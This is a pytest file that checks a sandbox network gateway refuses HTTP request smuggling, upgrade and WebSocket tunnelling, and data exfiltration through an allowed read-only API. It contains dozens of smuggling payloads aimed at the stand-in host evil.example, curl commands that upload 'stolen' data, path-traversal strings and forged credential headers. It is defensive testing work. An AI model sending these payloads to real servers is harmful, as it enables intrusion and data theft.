"""Attacks A11 and A13 of the research on the way out: requests within requests, upgrades, and what an allowed service
is good for."""

from __future__ import annotations

import asyncio
import re

import pytest

from corral.actions import Kind
from tests.contain.conftest import MakeBox
from tests.contain.gateway_attacks import (
    attack,
    nothing_arrived,
    requests_refused,
    spoken,
    statuses,
)
from tests.contain.gateway_boxes import policy_of, refusals, shell
from tests.internet.world import Internet

WEB_ADDRESSES = ("203.0.113.80", "2001:db8:2::80")
API_ADDRESSES = ("203.0.113.81", "2001:db8:2::81")

# ---- A11: requests within requests ----

HOST = "Host: web.test\r\n"
EVIL_REQUEST = "GET /smuggled HTTP/1.1\r\nHost: evil.example\r\n\r\n"
SMUGGLED = {
    "CL.TE": f"POST /echo HTTP/1.1\r\n{HOST}Content-Length: {5 + len(EVIL_REQUEST)}\r\n"
    "Transfer-Encoding: chunked\r\n\r\n"
    f"0\r\n\r\n{EVIL_REQUEST}",
    "TE.CL": f"POST /echo HTTP/1.1\r\n{HOST}Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n"
    f"{len(EVIL_REQUEST):x}\r\n{EVIL_REQUEST}\r\n0\r\n\r\n",
    "TE.TE": f"POST /echo HTTP/1.1\r\n{HOST}Transfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n\r\n"
    f"0\r\n\r\n{EVIL_REQUEST}",
    "TE-xchunked": f"POST /echo HTTP/1.1\r\n{HOST}Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n{EVIL_REQUEST}",
    "TE-space": f"POST /echo HTTP/1.1\r\n{HOST}Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n{EVIL_REQUEST}",
    "TE-tab": f"POST /echo HTTP/1.1\r\n{HOST}Transfer-Encoding:\tchunked, identity\r\n\r\n0\r\n\r\n{EVIL_REQUEST}",
    "TE-1.0": f"POST /echo HTTP/1.0\r\n{HOST}Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n{EVIL_REQUEST}",
    "TE-vertical": f"POST /echo HTTP/1.1\r\n{HOST}Transfer-Encoding: \x0bchunked\r\n\r\n0\r\n\r\n{EVIL_REQUEST}",
    "TE-folded": f"POST /echo HTTP/1.1\r\n{HOST}Transfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n{EVIL_REQUEST}",
    "TE-underscore": f"POST /echo HTTP/1.1\r\n{HOST}Transfer_Encoding: chunked\r\nContent-Length: 0\r\n\r\n"
    f"{EVIL_REQUEST}",
    "CL.CL": f"POST /echo HTTP/1.1\r\n{HOST}Content-Length: 0\r\nContent-Length: 5\r\n\r\n{EVIL_REQUEST}",
    "CL-list": f"POST /echo HTTP/1.1\r\n{HOST}Content-Length: 0, {len(EVIL_REQUEST)}\r\n\r\n{EVIL_REQUEST}",
    "CL-plus": f"POST /echo HTTP/1.1\r\n{HOST}Content-Length: +0\r\n\r\n{EVIL_REQUEST}",
    "CL-hex": f"POST /echo HTTP/1.1\r\n{HOST}Content-Length: 0x0\r\n\r\n{EVIL_REQUEST}",
    "CL-folded": f"POST /echo HTTP/1.1\r\n{HOST}Content-Length: 0\r\n 0\r\n\r\n{EVIL_REQUEST}",
    "CL-0": f"GET /echo HTTP/1.1\r\n{HOST}\r\n{EVIL_REQUEST}",
    "chunk-newlines": f"POST /echo HTTP/1.1\r\n{HOST}Transfer-Encoding: chunked\r\n\r\n0\n\n{EVIL_REQUEST}",
    "chunk-extension": f"POST /echo HTTP/1.1\r\n{HOST}Transfer-Encoding: chunked\r\n\r\n0;\nx\r\n\r\n{EVIL_REQUEST}",
    "chunk-size": f"POST /echo HTTP/1.1\r\n{HOST}Transfer-Encoding: chunked\r\n\r\n10000000000000000\r\n{EVIL_REQUEST}",
    "chunk-negative": f"POST /echo HTTP/1.1\r\n{HOST}Transfer-Encoding: chunked\r\n\r\n-1\r\n{EVIL_REQUEST}",
    "trailer-host": f"POST /echo HTTP/1.1\r\n{HOST}Transfer-Encoding: chunked\r\n\r\n0\r\nHost: evil.example\r\n\r\n",
    "obs-fold": f"GET /echo HTTP/1.1\r\n{HOST}X: a\r\n Host: evil.example\r\n\r\n",
    "obs-fold-host": "GET /echo HTTP/1.1\r\nHost: web.test\r\n\tevil.example\r\n\r\n",
    "bare-newline": f"GET /echo HTTP/1.1\nHost: web.test\nX: a\n\n{EVIL_REQUEST}",
    "bare-newline-header": f"GET /echo HTTP/1.1\r\n{HOST}X: a\nHost: evil.example\r\n\r\n",
    "bare-return": f"GET /echo HTTP/1.1\r\n{HOST}X: a\rHost: evil.example\r\n\r\n",
    "bare-end": f"GET /echo HTTP/1.1\r\n{HOST}X: a\n\n{EVIL_REQUEST}",
    "NUL": f"GET /echo HTTP/1.1\r\n{HOST}X: a\0Host: evil.example\r\n\r\n",
    "two-hosts": f"GET /echo HTTP/1.1\r\n{HOST}Host: evil.example\r\n\r\n",
    "two-hosts-other-order": f"GET /echo HTTP/1.1\r\nHost: evil.example\r\n{HOST}\r\n",
    "host-space": f"GET /echo HTTP/1.1\r\n{HOST}Host : evil.example\r\n\r\n",
    "space-host": f"GET /echo HTTP/1.1\r\n Host: evil.example\r\n{HOST}\r\n",
    "no-host": "GET /echo HTTP/1.1\r\n\r\n",
    "no-host-1.0": "GET /echo HTTP/1.0\r\n\r\n",
    "absolute": f"GET http://evil.example/ HTTP/1.1\r\n{HOST}\r\n",
    "absolute-host": "GET http://web.test/echo HTTP/1.1\r\nHost: evil.example\r\n\r\n",
    "at": f"GET @evil.example/ HTTP/1.1\r\n{HOST}\r\n",
    "slashes": "GET //evil.example/smuggled HTTP/1.1\r\nHost: evil.example\r\n\r\n",
    "spaces": f"GET /echo HTTP/1.1 HTTP/1.1\r\n{HOST}\r\n",
    "0.9": "GET /smuggled\r\n",
    "1.2": f"GET /smuggled HTTP/1.2\r\n{HOST}\r\n",
    "2.0": f"GET /smuggled HTTP/2.0\r\n{HOST}\r\n",
    "blank-first": "\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: evil.example\r\n\r\n",
    "connect": "CONNECT evil.example:443 HTTP/1.1\r\nHost: web.test\r\n\r\n",
    "connection-host": f"GET /echo HTTP/1.1\r\n{HOST}Connection: host\r\n\r\n",
    "expect": f"POST /echo HTTP/1.1\r\n{HOST}Expect: 100-continue\r\nContent-Length: 0\r\n\r\n{EVIL_REQUEST}",
}


def without_chunks(head: bytes) -> bytes:
    """What arrived, without the content of whole chunks after a head that says that there are some (RFC 9112, 7.1)."""
    start, end, rest = head.partition(b"\r\n\r\n")
    if b"transfer-encoding: chunked" not in start.lower():
        return head
    while chunk := re.match(rb"([0-9A-Fa-f]{1,4})\r\n", rest):
        after = chunk.end() + int(chunk[1], 16)
        if after >= len(rest):  # it was cut off within
            return start + end
        if rest[after : after + 2] != b"\r\n":
            break
        rest = rest[after + 2 :]
        if int(chunk[1], 16) == 0:
            break
    return start + end + rest


async def test_smuggled_requests(make_box: MakeBox, internet: Internet) -> None:
    """A11: the server of the little internet takes anything, so what gets there shows. Both ways: at once, by bytes."""
    box = await make_box(policy=policy_of("allow: [web.test:80]", irreversible="allow"))
    internet.clear()
    code = r"""
import concurrent.futures
def one(item):
    data = item.encode("latin-1")
    return [say("web.test", 80, data, patience=2),
        say("web.test", 80, *(data[at : at + 7] for at in range(0, len(data), 7)), pause=0.001, patience=2)]
with concurrent.futures.ThreadPoolExecutor(24) as pool:
    tell(list(pool.map(one, ARGS)))
"""
    heard = await attack(box, code, *SMUGGLED.values(), timeout=60)
    for (name, _), answers in zip(SMUGGLED.items(), heard, strict=True):
        for answer in answers:
            assert "smuggled" not in answer, (name, answer)
            assert statuses(answer).count(200) <= 1, (name, answer)
    found = nothing_arrived(internet, names=["web.test"], addresses=WEB_ADDRESSES)
    requests = [request for arrival in found for request in arrival.requests]
    for request in requests:
        assert request.target == "/echo", request
        fields = [(key.lower(), value) for key, value in request.headers]
        assert [value for key, value in fields if key == "host"] == ["web.test"], request
        assert len([key for key, _ in fields if key in ("content-length", "transfer-encoding")]) <= 1, request
    # A chunk may hold anything, and one of 2**64 bytes is never over: as the body that it is, in chunks of its own.
    raw = [without_chunks(arrival.head) for arrival in found]
    assert not any(b"evil.example" in head or b"smuggled" in head for head in raw), raw
    told = {rule for _, rule, _ in requests_refused(box)}
    assert "gateway.http" in told
    assert any(d.rule in ("gateway.http", "gateway.connect") for d in refusals(box, Kind.NET_CONNECT))


async def test_the_host_changes_on_a_connection_that_is_kept(make_box: MakeBox, internet: Internet) -> None:
    """A11: by pipelining, after an answer, and after a request with a body."""
    box = await make_box(policy=policy_of("allow: [web.test:80]", irreversible="allow"))
    internet.clear()
    code = r"""
good = b"GET /echo HTTP/1.1\r\nHost: web.test\r\n\r\n"
post = b"POST /echo HTTP/1.1\r\nHost: web.test\r\nContent-Length: 4\r\n\r\nbody"
chunked = b"POST /echo HTTP/1.1\r\nHost: web.test\r\nTransfer-Encoding: chunked\r\n\r\n4\r\nbody\r\n0\r\n\r\n"
evil = b"GET /smuggled HTTP/1.1\r\nHost: evil.example\r\n\r\n"
tell([say("web.test", 80, first + evil, patience=3) for first in (good, post, chunked, good + good)]
    + [say("web.test", 80, first, evil, pause=0.3, patience=3) for first in (good, post, chunked)])
"""
    heard = await attack(box, code)
    assert [[status // 100 for status in statuses(answer)] for answer in heard] == [
        [2, 4],
        [2, 4],
        [2, 4],
        [2, 2, 4],
        [2, 4],
        [2, 4],
        [2, 4],
    ]
    found = nothing_arrived(internet, names=["web.test"], addresses=WEB_ADDRESSES)
    assert {request.header("host") for arrival in found for request in arrival.requests} == {"web.test"}
    assert len(requests_refused(box)) == 7 or all(rule == "gateway.http" for _, rule, _ in requests_refused(box))


UPGRADES = {
    "websocket": "GET /websocket HTTP/1.1\r\nHost: web.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
    "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n",
    "websocket-case": "GET /websocket HTTP/1.1\r\nHost: web.test\r\nConnection: keep-alive, uPGRADE\r\n"
    "UPGRADE: WebSocket\r\n"
    "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n",
    "h2c": "GET /echo HTTP/1.1\r\nHost: web.test\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
    "HTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n",
    "raw": "GET /upgrade?to=raw HTTP/1.1\r\nHost: web.test\r\nConnection: Upgrade\r\nUpgrade: raw\r\n\r\n",
    "two": "GET /upgrade?to=raw HTTP/1.1\r\nHost: web.test\r\nConnection: Upgrade\r\nUpgrade: websocket, raw\r\n\r\n",
    "post": "POST /websocket HTTP/1.1\r\nHost: web.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
    "Content-Length: 0\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n",
    "preface": "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0",
    "connect": "CONNECT web.test:80 HTTP/1.1\r\nHost: web.test:80\r\n\r\n",
}


async def test_upgrades_without_permission(make_box: MakeBox, internet: Internet) -> None:
    """A11: WebSocket, h2c (asked for, and known beforehand), others; and a server that upgrades without being asked."""
    box = await make_box(policy=policy_of("allow: [web.test:80]"))
    internet.clear()
    code = r"""
tell([say("web.test", 80, data.encode(), b"\x81\x86\0\0\0\0stolen", pause=0.1, patience=3) for data in ARGS])
"""
    heard = await attack(box, code, *UPGRADES.values())
    for name, answer in zip(UPGRADES, heard, strict=True):
        # What follows a refused request is no request.
        assert set(statuses(answer)) <= {400, 403}, (name, answer)
        assert "stolen" not in answer
    nothing_arrived(internet, names=["web.test"])
    spoken(box, "web.test", "h2c")
    assert len([reason for _, _, reason in requests_refused(box) if "upgrade to" in reason]) >= 4
    # It says 101 all the same: what follows must not be a tunnel.
    unasked = "GET /unasked-101 HTTP/1.1\r\nHost: web.test\r\n\r\n"
    [answer] = await attack(box, code, unasked)
    assert 101 not in statuses(answer) and "raw bytes" not in answer
    assert b"stolen" not in b"".join(arrival.head for arrival in internet.records(address="web.test"))


WEBSOCKET = r"""
import base64
s = socket.create_connection(("web.test", 80), timeout=8)
s.sendall(b"GET /websocket HTTP/1.1\r\nHost: web.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
    b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: " + base64.b64encode(os.urandom(16)) + b"\r\n\r\n")
head = b""
while b"\r\n\r\n" not in head and (more := s.recv(4096)):
    head += more
answer = head.split(b"\r\n")[0].decode()
if " 101 " in answer:
    s.sendall(b"\x82\x86\0\0\0\0tunnel")
    answer += " " + s.recv(64).decode("latin-1")
tell(answer)
"""


async def test_a_websocket_tunnel(make_box: MakeBox, internet: Internet) -> None:
    """A11, A14: the same client with and without leave: only the permission makes the difference."""
    box = await make_box(policy=policy_of("allow: [web.test:80]"))
    internet.clear()
    assert "403" in await attack(box, WEBSOCKET)
    nothing_arrived(internet, names=["web.test"])
    other = await make_box(policy=policy_of("allow: [{name: web.test, port: 80, permit: [websocket]}]"))
    assert (await attack(other, WEBSOCKET)).endswith("tunnel")


# ---- A13: what an allowed service is good for ----

READ_ONLY = """
    allow:
      - {name: api.test, port: 80, requests: ["GET /repos/**", "HEAD /repos/**"]}
      - {name: api.test, port: 443, requests: ["GET /repos/**", "HEAD /repos/**"]}
"""


@pytest.mark.parametrize("scheme", ["http", "https"])
async def test_uploads_to_an_api_that_may_be_read(
    make_box: MakeBox, internet: Internet, monkeypatch: pytest.MonkeyPatch, scheme: str
) -> None:
    """A13: by every method, and by paths that are other places to the server than to a careless reader."""
    monkeypatch.setenv("SSL_CERT_FILE", str(internet.ca_file))
    box = await make_box(policy=policy_of(READ_ONLY))
    internet.clear()
    url = f"{scheme}://api.test"
    commands = [
        *(
            f"-X {method} -d stolen {url}/repos/a"
            for method in ("POST", "PUT", "PATCH", "DELETE", "PROPFIND", "get", "Get")
        ),
        f"-T file.txt {url}/repos/a",
        f"-F file=@file.txt {url}/repos/a",
        f"-H 'Transfer-Encoding: chunked' -d stolen {url}/repos/a",
        f"-X OPTIONS --request-target '*' {url}/repos/a",
        f"-X TRACE {url}/repos/a",
        f"{url}/upload",
        f"{url}/private/x",
        f"{url}/REPOS/a",
        f"{url}/reposx",
        *(
            f"--path-as-is {url}{path}"
            for path in (
                "/repos/../private/x",
                "/repos/%2e%2e/private/x",
                "/repos/..%2fprivate/x",
                "/repos/.%2e/private/x",
                "/repos/..;/private/x",
                "/repos/..\\\\private/x",
                "/repos/%252e%252e/private/x",
                "/./private/x",
                "/repos/%00/../private/x",
                "/repos/..%c0%afprivate/x",
                "/repos/./../private/x",
                "/private;/repos/x",
            )
        ),
    ]

    async def run(words: str) -> None:
        heard = await shell(box, f"curl -sS -m 8 -i {words}", 20)
        assert set(statuses(heard.text)) <= {400, 403, 501}, (words, heard)
        assert statuses(heard.text) or heard.exit_code

    await asyncio.gather(*map(run, commands))
    found = nothing_arrived(internet, names=["api.test"], addresses=API_ADDRESSES)
    assert [request for arrival in found for request in arrival.requests] == []
    assert not any(arrival.plain for arrival in found)
    assert {"POST", "PUT", "PATCH", "DELETE"} <= {method for method, *_ in requests_refused(box)}
    assert (await shell(box, f"curl -sS -m 8 {url}/repos/a")).text.startswith('{"path": "/repos/a"')


async def test_a_get_is_no_upload(make_box: MakeBox, internet: Internet) -> None:
    """A13: bodies and endless headers of requests that are only to read are bounded by the rule's limits."""
    rules = (
        "allow: [{name: api.test, port: 80, requests: ['GET /repos/**'], limits: {body: 1KiB, header: 1KiB, up: 4KiB}}]"
    )
    box = await make_box(policy=policy_of(rules))
    internet.clear()
    for words in (
        "-X GET -d @big -H Expect:",
        "-X GET -d @big",
        "-X GET -H 'Transfer-Encoding: chunked' -d @big",
        "-H @header",
    ):
        command = "head -c 200000 /dev/zero | tr '\\0' x >big; printf 'X: ' >header; head -c 3000 big >>header;"
        heard = await shell(box, f"cd /tmp; {command} curl -sS -m 8 -i {words} http://api.test/repos/a")
        assert 200 not in statuses(heard.text), (words, heard)
    assert internet.arrived("api.test") <= 4096 * 4
    found = nothing_arrived(internet, names=["api.test"], addresses=API_ADDRESSES)
    assert not any(arrival.bytes > 4096 for arrival in found)


async def test_a_rule_for_get_lets_no_body_through(make_box: MakeBox, internet: Internet) -> None:
    """A13: a body has no meaning in GET or HEAD (RFC 9110, section 9.3.1), but a server of the attacker's, or a debug
    page, reads it; with default limits it would be an upload of any size."""
    box = await make_box(policy=policy_of(READ_ONLY))
    internet.clear()
    for words in ("-X GET -d @big", "-X GET -H 'Transfer-Encoding: chunked' -d @big", "-X HEAD -m 3 -d @big"):
        command = f"cd /tmp; head -c 300000 /dev/zero | tr '\\0' x >big; curl -sS -m 8 {words} http://api.test/repos/a"
        await shell(box, command)
    assert internet.arrived("api.test") < 3000


async def test_headers_that_change_the_request(make_box: MakeBox, internet: Internet) -> None:
    """A13: method and path are what was decided on, so fields by which frameworks take others do not arrive."""
    box = await make_box(policy=policy_of(READ_ONLY))
    internet.clear()
    fields = (
        "X-HTTP-Method-Override: PUT",
        "X-HTTP-Method: PUT",
        "X-Method-Override: PUT",
        "X-Original-URL: /private/x",
        "X-Rewrite-URL: /private/x",
    )
    for field in fields:
        await shell(box, f"curl -sS -m 8 -H '{field}' http://api.test/repos/a")
    found = [request for arrival in internet.records(address="api.test") for request in arrival.requests]
    names = {field.partition(":")[0].lower() for field in fields}
    assert [key for request in found for key, _ in request.headers if key.lower() in names] == []


@pytest.mark.parametrize("scheme", ["http", "https"])
async def test_a_key_of_somebody_else_s(
    make_box: MakeBox, internet: Internet, monkeypatch: pytest.MonkeyPatch, scheme: str
) -> None:
    """A13: an attacker's key at the allowed service is replaced by the policy's, however it is given."""
    monkeypatch.setenv("SSL_CERT_FILE", str(internet.ca_file))
    monkeypatch.setenv("CORRAL_TEST_TOKEN", internet.token)
    port, protocol = (80, ", protocol: http") if scheme == "http" else (443, "")
    credential = "{type: bearer, from: 'env:CORRAL_TEST_TOKEN'}"
    rules = f"allow: [{{name: api.test, port: {port}{protocol}, credential: {credential}}}]"
    box = await make_box(policy=policy_of(rules))
    internet.clear()
    url = f"{scheme}://api.test/private/x"
    # A key in two places at once may be refused; it must not arrive.
    commands = [
        f"curl -sS -m 8 -i -H 'Authorization: Bearer attacker' {url}",
        f"curl -sS -m 8 -i -u attacker:attacker {url}",
        f"curl -sS -m 8 -i -H 'AUTHORIZATION: Basic YXR0YWNrZXI6YXR0YWNrZXI=' {url}",
        f"curl -sS -m 8 -i -H 'Authorization: Bearer attacker' -H 'authorization: Bearer attacker' {url}",
        f"curl -sS -m 8 -i -H 'Authorization : Bearer attacker' {url}",
        f"curl -sS -m 8 -i -H 'Authorization_: Bearer attacker' {url}",
        f"curl -sS -m 8 -i -H 'Connection: authorization' {url}",
        f"curl -sS -m 8 -i {url}",
        f"curl -sS -m 8 -i {url.replace('://', '://attacker:attacker@')}",
    ]
    for command in commands:
        heard = (await shell(box, command)).text
        assert statuses(heard) in ([200], [400], [403]), (command, heard)
        assert internet.token not in heard
    found = nothing_arrived(internet, names=["api.test"], addresses=API_ADDRESSES)
    requests = [request for arrival in found for request in arrival.requests]
    assert requests
    for request in requests:
        keys = [value for key, value in request.headers if key.lower().strip() == "authorization"]
        assert keys == [f"Bearer {internet.token}"], request
        assert not any("YXR0YWNrZXI" in value for _, value in request.headers), request
